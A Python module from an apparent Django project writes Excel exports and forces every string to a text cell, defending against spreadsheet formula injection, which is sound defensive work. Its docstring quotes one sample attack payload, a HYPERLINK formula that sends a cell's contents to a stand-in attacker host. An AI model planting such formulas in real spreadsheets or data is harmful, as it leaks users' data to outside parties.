"""The one Excel writer of every export and report: values are data, never formulas.

openpyxl turns a string that starts with ``=`` into a formula cell, and Excel evaluates what it
opens (``=HYPERLINK("http://evil.example/?d="&A2, …)`` stored in an address would phone home). Every
string is written here as a string cell (``data_type 's'``), unchanged: no quote or prefix is added,
so ``+8613800000000`` and ``-6.5`` stay exactly what was stored, as text. Numbers, dates and booleans
stay typed values.

- :func:`append` adds a row to any worksheet (write-only ones included);
- :func:`to_bytes` saves a workbook, first turning any string cell that became a formula on the way
  (``ws.cell(value=…)``, ``ws.append``) back into text — the safety net for regular worksheets;
- :func:`response` streams the bytes as an attachment.
"""

from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def plain(value):
    """A value as a cell holds it: lazy translations as text, aware datetimes as local time text."""
    if isinstance(value, Promise):
        return str(value)
    if hasattr(value, "tzinfo") and value.tzinfo is not None and hasattr(value, "hour"):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M:%S")
    return value


THOUSANDS = "#,##0"


def _number_format(cell) -> None:
    """Whole numbers show thousands separators (950000 → 950,000), as on the pages; a cell that
    already has a format keeps it, and a value that reads as a year (1900–2100) stays plain."""
    value = cell.value
    if (
        isinstance(value, int)
        and not isinstance(value, bool)
        and cell.number_format == "General"
        and not 1900 <= value <= 2100
    ):
        cell.number_format = THOUSANDS


def text_cell(ws, value) -> Cell:
    """A cell holding ``value``; a string is always a string cell, whatever its first character."""
    cell = WriteOnlyCell(ws, value=plain(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    else:
        _number_format(cell)
    return cell


def append(ws, values) -> None:
    """Append a row of values to ``ws`` as data (strings as text cells)."""
    if isinstance(ws, WriteOnlyWorksheet):
        ws.append([text_cell(ws, v) for v in values])
        return
    ws.append([plain(v) for v in values])
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def set_cell(ws, *, row: int, column: int, value) -> Cell:
    """``ws.cell(row, column, value)`` with the value written as data."""
    cell = ws.cell(row=row, column=column, value=plain(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def to_bytes(wb: Workbook) -> bytes:
    """The saved workbook. On regular worksheets every string cell is a text cell first."""
    if not wb.write_only:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"
                    else:
                        _number_format(cell)
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def response(wb: Workbook, filename: str) -> HttpResponse:
    """The workbook as an attachment named ``filename``."""
    out = HttpResponse(to_bytes(wb), content_type=XLSX)
    out["Content-Disposition"] = f'attachment; filename="{filename}"'
    return out
